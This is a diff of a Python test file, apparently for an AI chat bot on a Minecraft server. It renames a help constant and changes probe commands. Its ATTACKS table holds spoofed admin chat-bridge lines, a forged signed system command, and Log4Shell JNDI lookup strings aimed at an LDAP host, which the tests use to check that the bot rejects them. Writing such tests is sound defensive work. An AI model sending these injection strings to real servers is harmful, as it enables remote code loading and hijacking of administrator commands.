@@ -19,7 +19,7 @@ if TYPE_CHECKING:
     from tests.scenarios.conftest import Game
 
 ORDER: Final = "@ai /system ai default free"
-HELP: Final = "What you can ask"
+USAGE: Final = "Write it like this"
 HEADER: Final = "[12:00:00] [Server thread/INFO]: "
 CALL: Final = "[Mara: Running function system:ai/default_free]"
 SIGNED: Final = f'SYSAI 1 1700000000000-00000000 1 {"0" * 64} {{"t":"command"}}'
@@ -62,7 +62,7 @@ ATTACKS: Final = {
         "Mara issued server command: /system ai default free",
     ),
     "a chat bridge": (
-        "<Ghost> @ai /help",
+        "<Ghost> @ai /quest",
         f"<Ghost> {ORDER}",
         f"<[Discord] Mara> {ORDER}",
         f"[Discord]<Mara> {ORDER}",
@@ -96,7 +96,7 @@ ATTACKS: Final = {
     ),
     "lookups of log4j": (
         "<Teo> ${jndi:ldap://192.0.2.1/a}",
-        "<${jndi:ldap://192.0.2.1/a}> @ai /help",
+        "<${jndi:ldap://192.0.2.1/a}> @ai /quest",
     ),
 }
 HEADER_LESS: Final = (
@@ -112,13 +112,13 @@ HEADER_LESS: Final = (
 async def seen_to(game: Game) -> None:
     """All that stands in the log has been seen to: so have several later requests been."""
 
-    def helped() -> int:
-        return sum(HELP in text for text in texts(game, "Mara"))
+    def reached() -> int:
+        return sum(USAGE in text for text in texts(game, "Mara"))
 
     for _ in range(4):
-        before = helped()
-        await game.server.chat("Mara", "@ai /help")
-        await until(lambda before=before: helped() > before)
+        before = reached()
+        await game.server.chat("Mara", "@ai /quest")
+        await until(lambda before=before: reached() > before)
 
 
 async def accepted(game: Game, lines: tuple[str, ...]) -> list[str]:
@@ -136,9 +136,9 @@ async def accepted(game: Game, lines: tuple[str, ...]) -> list[str]:
     found = [f"{entry.change}" for entry in await access.history()]
     found += [f"online: {online}"] if online != ["Mara", "Teo"] else []
     found += ["the version"] if str(daemon.servers[0].link.version) != "1.21.4" else []
-    expected = ("Administrators are recognised", HELP, "<")
-    helped = [text for text in texts(game, "Mara")[told["Mara"] :] if HELP in text]
-    found += helped[4:]
+    expected = ("Administrators are recognised", USAGE, "<")
+    reached = [text for text in texts(game, "Mara")[told["Mara"] :] if USAGE in text]
+    found += reached[4:]
     return found + [
         f"{name}: {text}"
         for name, before in told.items()
